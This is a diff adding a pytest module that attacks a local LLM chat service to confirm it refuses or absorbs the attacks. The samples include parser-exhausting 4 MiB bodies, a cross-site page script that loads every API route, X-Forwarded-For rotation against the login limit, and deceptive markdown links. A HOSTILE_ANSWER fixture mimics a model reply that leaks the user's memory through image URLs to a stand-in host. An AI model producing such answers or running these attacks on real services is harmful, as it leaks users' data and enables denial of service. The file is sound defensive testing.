@@ -1,0 +1,534 @@
+"""What one malformed request, another web page or a network neighbour can make the
+service do (issue 23): each attack is tried for real and must be refused or absorbed."""
+
+from __future__ import annotations
+
+import asyncio
+import html as html_lib
+import http.server
+import json
+import multiprocessing
+import os
+import re
+import socket
+import statistics
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import contextmanager
+from dataclasses import dataclass
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import httpx
+import pytest
+from markdown_it import MarkdownIt
+from starlette.middleware import Middleware
+
+from app.access import FAILURES_ALLOWED, MAX_BODY_BYTES
+from app.embedded_searxng import free_port
+from app.fetch import ExtractionProcess, FetchFailed, Page, fetch_page
+from tests.browser import open_page
+from tests.chat_client import new_conversation, send
+from tests.conftest import ROOT, ChatService, chat_env, run_cli
+from tests.fakes.llm_server import Reply
+from tests.fakes.pages import ARTICLE, ARTICLE_TITLE
+
+JSON = {"content-type": "application/json"}
+HEALTH_BUDGET_SECONDS = 0.05
+
+
+@dataclass
+class Served:
+    url: str
+    process: subprocess.Popen
+    log: Path
+
+    def output(self) -> str:
+        return self.log.read_text(errors="replace")
+
+
+@contextmanager
+def serve(env: dict[str, str], *args: str, host: str = "127.0.0.1") -> Iterator[Served]:
+    """`python -m app serve` as a user runs it, in a process of its own (so that its GIL is
+    not shared with the test's clients), its output kept."""
+    port = free_port()
+    log = Path(env["DATA_DIR"]).parent / f"serve-{port}.log"
+    with log.open("wb") as out:
+        process = subprocess.Popen(
+            [sys.executable, "-m", "app", "serve", "--host", host, "--port", str(port), *args],
+            cwd=ROOT,
+            env=env,
+            stdout=out,
+            stderr=subprocess.STDOUT,
+        )
+    served = Served(f"http://127.0.0.1:{port}", process, log)
+    deadline = time.monotonic() + 60
+    try:
+        while True:
+            assert process.poll() is None, f"serve exited:\n{served.output()[-3000:]}"
+            try:
+                if httpx.get(f"{served.url}/healthz", timeout=2).status_code == 200:
+                    break
+            except httpx.HTTPError:
+                pass
+            assert time.monotonic() < deadline, f"serve did not start:\n{served.output()}"
+            time.sleep(0.1)
+        yield served
+    finally:
+        process.terminate()
+        try:
+            process.wait(timeout=10)
+        except subprocess.TimeoutExpired:
+            process.kill()
+            process.wait(timeout=10)
+
+
+@pytest.fixture
+def served(llm, pages, searxng, tmp_path) -> Iterator[Served]:
+    llm.clear()
+    env = chat_env(llm, tmp_path, pages, SEARXNG_URL=searxng.url, LOOP_LAG_PROBE="1")
+    with serve(env) as service:
+        yield service
+
+
+# -- one request must not freeze the service ---------------------------------------------------
+
+
+def worst_bodies() -> list[bytes]:
+    """4 MiB each: an unclosed string of escaped quotes (the old check retried from every
+    quote, quadratic: hours), and two million empty lists just under the depth limit (the
+    parser would build them all on the event loop)."""
+    opening = b'{"text": "'
+    quotes = opening + b'\\"' * ((MAX_BODY_BYTES - len(opening)) // 2)
+    lists = b"[" * 15 + b"[]" * ((MAX_BODY_BYTES - 15) // 2)
+    return [quotes, lists, quotes]
+
+
+def health(url: str) -> tuple[float, float]:
+    """How long /healthz took to answer, and the longest the service's event loop was held
+    since the last call, its waits for a core taken out (LOOP_LAG_PROBE), in seconds."""
+    started = time.perf_counter()
+    answer = httpx.get(f"{url}/healthz", timeout=5)
+    took = time.perf_counter() - started
+    assert answer.status_code == 200
+    return took, answer.json()["loop_lag_own_ms"] / 1000
+
+
+def test_a_4_mib_body_built_against_the_depth_check_does_not_hold_the_loop(served):
+    before = [health(served.url)[0] for _ in range(5)]
+    answers: list[int] = []
+
+    def send_all() -> None:
+        for body in worst_bodies():
+            response = httpx.put(f"{served.url}/api/memory", content=body, headers=JSON, timeout=60)
+            answers.append(response.status_code)
+
+    sender = threading.Thread(target=send_all)
+    started = time.monotonic()
+    sender.start()
+    during: list[float] = []
+    held: list[float] = []
+    while sender.is_alive() or len(during) < 5:
+        took, own = health(served.url)
+        during.append(took)
+        held.append(own)
+    sender.join()
+    took = time.monotonic() - started
+    # Refused (the string never closes; the lists are too many), within seconds: the old
+    # check would have taken hours over the first.
+    assert answers == [422, 422, 422] and took < 30
+    # /healthz answered all along: the service's loop was held under 50 ms (the probe
+    # counts no wait for a core), and each answer came within a second (the old check: not
+    # one for hours). End to end, within 50 ms, or on a loaded machine (the bodies' CPU, and
+    # the SearXNG probe /healthz makes, wait for a core too) a few times what it took before.
+    allowed = max(HEALTH_BUDGET_SECONDS, 5 * statistics.median(before))
+    assert statistics.median(during) < allowed, (during, before)
+    assert max(during) < 1.0, during
+    assert statistics.median(held) < HEALTH_BUDGET_SECONDS, held
+
+
+# -- other web pages get nothing run -----------------------------------------------------------
+
+
+NAVIGATION = {
+    "Sec-Fetch-Site": "cross-site",
+    "Sec-Fetch-Mode": "navigate",
+    "Sec-Fetch-Dest": "document",
+}
+
+
+@pytest.mark.parametrize(
+    "headers",
+    [
+        {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"},
+        {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty"},
+        {"Origin": "http://127.0.0.1:9"},
+        {**NAVIGATION, "Sec-Fetch-Dest": "iframe"},
+    ],
+    ids=["img", "same-site-fetch", "origin", "frame"],
+)
+def test_a_get_from_another_page_is_refused_but_a_link_to_the_page_is_not(chat, headers):
+    for path in ("/api/conversations?q=x", "/api/status", "/api/lab/search?q=x", "/"):
+        assert httpx.get(f"{chat.url}{path}", headers=headers).status_code == 403, path
+    assert httpx.get(f"{chat.url}/", headers=NAVIGATION).status_code == 200
+    assert httpx.get(f"{chat.url}/api/conversations", headers=NAVIGATION).status_code == 403
+
+
+def test_every_answer_forbids_embedding_and_sniffing(chat, llm):
+    llm.script(Reply("Hi."))
+    conversation = httpx.post(f"{chat.url}/api/conversations", json={}).json()["id"]
+    answers = [
+        httpx.get(f"{chat.url}/"),
+        httpx.get(f"{chat.url}/static/js/main.js"),
+        httpx.get(f"{chat.url}/api/conversations"),
+        httpx.get(f"{chat.url}/api/nothing-here"),
+        httpx.get(f"{chat.url}/api/memory", headers={"Origin": "http://evil.example"}),
+        httpx.get(f"{chat.url}/api/memory", headers={"Host": "rebound.example"}),
+        httpx.get(f"{chat.url}/healthz"),
+        httpx.post(f"{chat.url}/api/conversations/{conversation}/chat", json={"message": "hi"}),
+    ]
+    for answer in answers:
+        assert answer.headers.get_list("cross-origin-resource-policy") == ["same-origin"], answer
+        assert answer.headers.get_list("x-content-type-options") == ["nosniff"], answer
+
+
+SAMPLE_PARAMETERS = {"conversation_id": "20260101-abcdef", "model": "fake-model"}
+
+
+@contextmanager
+def page_server(page: bytes) -> Iterator[str]:
+    """A web page on another loopback origin (127.0.0.2: another site)."""
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # noqa: N802 - stdlib naming
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.send_header("Content-Length", str(len(page)))
+            self.end_headers()
+            self.wfile.write(page)
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"http://127.0.0.2:{server.server_address[1]}/"
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+class Reached:
+    """Counts the requests that get past the access check to the routes (installed inside
+    it, as the innermost middleware): what a handler would have run for."""
+
+    def __init__(self, app, seen: list[str]) -> None:
+        self.app = app
+        self.seen = seen
+
+    async def __call__(self, scope, receive, send) -> None:
+        if scope["type"] == "http":
+            self.seen.append(f"{scope['method']} {scope['path']}")
+        await self.app(scope, receive, send)
+
+
+@pytest.fixture
+def counted(llm, pages, searxng, brave, tmp_path) -> Iterator[tuple[ChatService, list[str]]]:
+    llm.clear()
+    service = ChatService(chat_env(llm, tmp_path, pages), searxng.url)
+    seen: list[str] = []
+    service.app.user_middleware.append(Middleware(Reached, seen=seen))
+    service.start()
+    yield service, seen
+    service.stop()
+
+
+def get_routes(service: ChatService) -> list[str]:
+    """Every GET address the service serves, from its own schema, with sample parameters
+    and the costly queries (a search, a measure over eight locales, a conversation search),
+    plus the page and one of its scripts."""
+    queries = {
+        "/api/lab/search": "?q=x",
+        "/api/lab/measure": "?q=x&locales=all,pl,de,fr,es,it,nl,sv&top=50",
+        "/api/conversations": "?q=secret",
+        "/api/status": "",
+    }
+    routes = ["/", "/static/js/main.js"]
+    for path, operations in service.app.openapi()["paths"].items():
+        if "get" in operations:
+            routes.append(path.format(**SAMPLE_PARAMETERS) + queries.get(path, ""))
+    return routes
+
+
+LOADS = """
+<a id="go" href="{target}/">the chat</a>
+<script>
+const target = {target!r};
+const routes = {routes};
+const loads = [];
+function attack() {{
+  for (const route of routes) {{
+    const url = target + route;
+    for (const tag of ["img", "script", "link", "iframe"]) {{
+      const element = document.createElement(tag);
+      loads.push(new Promise((done) => {{
+        element.onload = element.onerror = done;
+        setTimeout(done, 5000);  // a frame refused by its policy may never say
+      }}));
+      if (tag === "link") {{ element.rel = "stylesheet"; element.href = url; }}
+      else {{ element.src = url; }}
+      document.body.append(element);
+    }}
+    loads.push(fetch(url, {{mode: "no-cors"}}).catch(() => {{}}));
+    loads.push(fetch(url).catch(() => {{}}));  // a CORS GET: sends Origin
+  }}
+  Promise.all(loads).then(() => {{ document.title = "done"; }});
+}}
+addEventListener("load", attack);  // once this page has loaded, so that opening it is quick
+</script>
+"""
+
+
+def test_another_page_gets_no_get_route_to_run_and_can_still_link_the_page(browser, counted):
+    service, seen = counted
+    page = LOADS.format(target=service.url, routes=json.dumps(get_routes(service))).encode()
+    with page_server(page) as attacker:
+        tab = open_page(browser, attacker, ready=False)
+        try:
+            tab.wait_for_function("document.title === 'done'", timeout=60_000)
+            assert seen == []  # refused before any route: no search, no model request
+            statuses = {status for _, url, status in tab.log.responses if service.url in url}
+            assert statuses == {403}
+            attacks = len(tab.log.responses)
+            tab.click("#go")  # a link to the page, from another site: the page loads
+            tab.wait_for_selector("body[data-ready]", state="attached")
+            assert "GET /api/config" in seen  # the page's own calls are same-origin
+            own = [(url, status) for _, url, status in tab.log.responses[attacks:]]
+            assert own and all(status < 400 for _, status in own), own
+        finally:
+            tab.context.close()
+
+
+# -- beyond loopback, never without a token ----------------------------------------------------
+
+
+def test_under_compose_without_a_token_one_is_made_kept_and_required(llm, searxng, tmp_path):
+    llm.clear()
+    env = chat_env(llm, tmp_path, SEARXNG_URL=searxng.url, PUBLISHED_ON_LOOPBACK="1")
+    data = Path(env["DATA_DIR"])
+    with serve(env, host="0.0.0.0") as first:
+        token = (data / "access-token").read_text().strip()
+        assert token in first.output()  # shown once, at first start
+        assert httpx.get(f"{first.url}/api/config").status_code == 401
+        assert httpx.get(f"{first.url}/api/conversations?q=x").status_code == 401
+        mine = {"Authorization": f"Bearer {token}"}
+        assert httpx.get(f"{first.url}/api/config", headers=mine).status_code == 200
+        with httpx.Client(base_url=first.url) as page:  # the page's sign-in takes it
+            assert page.get("/api/session").json() == {"auth": True, "signed_in": False}
+            assert page.post("/api/session", json={"token": token}).status_code == 200
+            assert page.get("/api/memory").status_code == 200
+    assert (data / "access-token").stat().st_mode & 0o777 == 0o600
+    with serve(env, host="0.0.0.0") as again:
+        assert token not in again.output()  # kept, and not shown again
+        assert httpx.get(f"{again.url}/api/config").status_code == 401
+        mine = {"Authorization": f"Bearer {token}"}
+        assert httpx.get(f"{again.url}/api/config", headers=mine).status_code == 200
+    doctor = subprocess.run(
+        [sys.executable, "-m", "app", "doctor"],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        env=env,
+        timeout=120,
+    )
+    assert f"access token: {token}" in doctor.stdout
+
+
+# -- the token's smaller holes -----------------------------------------------------------------
+
+TOKEN = "f3a9c1e5b2d8046a1c3e5f7b9d0e2a4c"  # 128 bits in hex
+
+
+def test_a_forwarded_address_does_not_reset_the_login_limit(llm, searxng, tmp_path):
+    """A local process that rotates X-Forwarded-For still counts as one client, and the
+    owner's right token still works while that client is made to wait."""
+    llm.clear()
+    env = chat_env(llm, tmp_path, SEARXNG_URL=searxng.url, AUTH_TOKEN=TOKEN)
+    with serve(env) as service:
+        statuses = [
+            httpx.get(
+                f"{service.url}/api/config",
+                headers={"Authorization": "Bearer wrong", "X-Forwarded-For": f"10.0.0.{n}"},
+            ).status_code
+            for n in range(FAILURES_ALLOWED + 2)
+        ]
+        assert statuses == [401] * FAILURES_ALLOWED + [429, 429]
+        right = {"Authorization": f"Bearer {TOKEN}"}
+        assert httpx.get(f"{service.url}/api/config", headers=right).status_code == 200
+        login = httpx.post(f"{service.url}/api/session", json={"token": TOKEN})
+        assert login.status_code == 200 and "session=" in login.headers["set-cookie"]
+
+
+@pytest.mark.parametrize(
+    "cookie", ["1.é".encode(), b"\xb29999999999.x", b"9999999999.\xff", b"."], ids=repr
+)
+def test_a_strange_session_cookie_is_refused_not_a_crash(llm, pages, searxng, tmp_path, cookie):
+    llm.clear()
+    service = ChatService(chat_env(llm, tmp_path, pages, AUTH_TOKEN=TOKEN), searxng.url).start()
+    try:
+        header = b"Cookie: session=" + cookie
+        assert raw_request(service.url, "/api/config", header) == 401
+        assert raw_request(service.url, "/api/session", header) == 200
+    finally:
+        service.stop()
+
+
+def raw_request(url: str, path: str, header: bytes) -> int:
+    """A GET with one header of arbitrary bytes (httpx refuses some); its status."""
+    host, port = url.removeprefix("http://").split(":")
+    with socket.create_connection((host, int(port)), timeout=5) as sock:
+        request = f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n".encode()
+        sock.sendall(request + header + b"\r\nConnection: close\r\n\r\n")
+        return int(sock.recv(64).split(b" ")[1])
+
+
+@pytest.mark.parametrize("token", ["s3cret", "0123456789abcdef0123", "hunter2hunter2hunter2"])
+def test_a_guessable_token_is_refused_at_start(token):
+    run = run_cli("serve", searxng_url="http://127.0.0.1:9", AUTH_TOKEN=token)
+    assert run.returncode == 1
+    assert "AUTH_TOKEN" in run.stderr and "128" in run.stderr and "token_urlsafe" in run.stderr
+
+
+def test_the_data_directory_and_database_are_private_whatever_the_umask(llm, searxng, tmp_path):
+    """Made by a service started under umask 000: only their owner may read them."""
+    llm.clear()
+    data = tmp_path / "open" / "data"
+    old = os.umask(0)
+    try:
+        service = ChatService(chat_env(llm, tmp_path, DATA_DIR=str(data)), searxng.url)
+    finally:
+        os.umask(old)
+    service.start().stop()
+    assert data.stat().st_mode & 0o777 == 0o700
+    assert (data / "chat.db").stat().st_mode & 0o777 == 0o600
+
+
+@pytest.mark.parametrize("entry", ["127.0.0.1:{port}", "localhost:{port}", "[::1]:{port}"])
+def test_the_fetcher_may_not_be_allowed_to_reach_the_service_itself(entry):
+    """Else a page could have the model web_fetch /api/conversations and quote it."""
+    port = free_port()
+    run = subprocess.run(
+        [sys.executable, "-m", "app", "serve", "--host", "0.0.0.0", "--port", str(port)],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        env={
+            **os.environ,
+            "SEARXNG_URL": "http://127.0.0.1:9",
+            "AUTH_TOKEN": TOKEN,
+            "FETCH_ALLOW_HOSTS": entry.format(port=port),
+        },
+        timeout=60,  # the old code served on
+    )
+    assert run.returncode == 1
+    assert "FETCH_ALLOW_HOSTS names this service itself" in run.stderr
+
+
+# -- one slow page must not hold every conversation's pages --------------------------------------
+
+
+def test_a_page_slow_to_extract_is_stopped_and_the_next_page_is_read(pages):
+    """Extraction has one worker for every conversation: a page built to be slow (this one
+    takes minutes) is stopped at the deadline, and the page queued behind it is read by a
+    new worker."""
+    slow = ARTICLE.replace("</article>", "<p>Pierogi z kapustą. </p>" * 150_000 + "</article>")
+
+    async def scenario() -> tuple[str, Page, int, int]:
+        extraction = ExtractionProcess(deadline=2.0)
+        try:
+            await extraction(ARTICLE.encode(), "http://x/", "utf-8")  # the worker is up
+            first = multiprocessing.active_children()[0].pid
+            held = asyncio.ensure_future(extraction(slow.encode(), "http://x/", "utf-8"))
+            await asyncio.sleep(0.1)  # its turn first
+            page = await fetch_page(
+                pages.url + "/article", allow_hosts=frozenset({pages.host}), extract=extraction
+            )
+            with pytest.raises(FetchFailed) as stopped:
+                await held
+            second = multiprocessing.active_children()[0].pid
+            return str(stopped.value), page, first, second
+        finally:
+            extraction.close()
+
+    # In a thread of its own: this module's browser keeps an event loop running in this one.
+    with ThreadPoolExecutor(max_workers=1) as thread:
+        stopped, page, first, second = thread.submit(asyncio.run, scenario()).result()
+    assert "took over 2 s: stopped" in stopped
+    assert page.title == ARTICLE_TITLE
+    assert first != second  # the slow page's worker was killed, a new one read the next
+
+
+# -- a link must go where it says ----------------------------------------------------------------
+
+
+def test_the_page_shows_the_real_target_of_a_link_named_after_another_address(page):
+    page.evaluate(
+        """async () => {
+          const m = await import('/static/js/markdown.js');
+          const c = document.createElement('div');
+          c.id = 'links';
+          c.append(m.renderMarkdown(
+            '[https://bank.example/login](https://evil.example/x?d=1) ' +
+            '[www.bank.example](https://evil.example/) [the docs](https://evil.example/) ' +
+            '[bank.example/a](https://www.bank.example/b) ![](https://evil.example/p.png?d=1)'));
+          document.body.append(c);
+        }"""
+    )
+    links = page.evaluate(
+        "[...document.querySelectorAll('#links a')].map((a) => [a.textContent, a.href])"
+    )
+    assert links == [
+        ["https://evil.example/x?d=1", "https://evil.example/x?d=1"],
+        ["https://evil.example/", "https://evil.example/"],
+        ["the docs", "https://evil.example/"],  # a text that names no address stays
+        ["bank.example/a", "https://www.bank.example/b"],  # the same host stays
+    ]
+    assert page.evaluate("document.querySelectorAll('#links img').length") == 0
+
+
+HOSTILE_ANSWER = (
+    "Done ![](https://a.example/p.png?d=the-users-memory) and ![x][r] and"
+    ' <img src="https://a.example/q.png?d=1"> and [https://bank.example/login](https://a.example/x)'
+    " and [the docs](https://docs.example/) and `![kept as code](x)`.\n\n"
+    "[r]: https://a.example/r.png?d=2\n"
+)
+
+
+def test_the_export_loads_nothing_and_its_links_go_where_they_say(chat, llm):
+    """Rendered by a CommonMark viewer, the export of a hostile answer has no image, no
+    HTML, and no link whose text names another address than its target."""
+    llm.script(Reply(text=HOSTILE_ANSWER))
+    conversation = new_conversation(chat)
+    send(chat, conversation, "hi ![](https://a.example/u.png)")
+    exported = httpx.get(f"{chat.url}/api/conversations/{conversation}/export").text
+    html = MarkdownIt("commonmark").render(exported)
+    assert "<img" not in html
+    assert "&lt;img" in html  # shown as text
+    assert "<code>![kept as code](x)</code>" in html
+    links = re.findall(r'<a href="([^"]*)">(.*?)</a>', html)
+    assert ("https://docs.example/", "the docs") in links
+    for target, text in links:
+        if text.startswith("http"):
+            assert urlsplit(html_lib.unescape(text)).hostname == urlsplit(target).hostname
+
+
+def test_the_settings_template_never_suggests_opening_the_model_server_to_the_lan():
+    """An Ollama on 0.0.0.0 answers anyone on the network, with no password."""
+    template = (ROOT / ".env.example").read_text()
+    assert "OLLAMA_HOST=0.0.0.0" not in template and "--host 0.0.0.0" not in template
+    assert "OLLAMA_HOST=172.17.0.1" in template
